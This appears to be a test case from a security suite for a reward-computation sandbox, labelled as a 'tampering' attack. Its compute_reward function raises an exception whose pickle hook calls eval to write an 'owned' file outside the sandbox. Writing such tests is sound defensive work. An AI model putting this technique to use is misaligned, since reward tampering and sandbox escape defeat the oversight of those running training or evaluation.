# attack: an exception with a pickle of its own
# group: tampering
# wall: language; alone: no exception object crosses

class E(Exception):
    def __reduce__(self): return eval, ('open("@FOLDER@/owned", "w")',)


def compute_reward(x):
    raise E
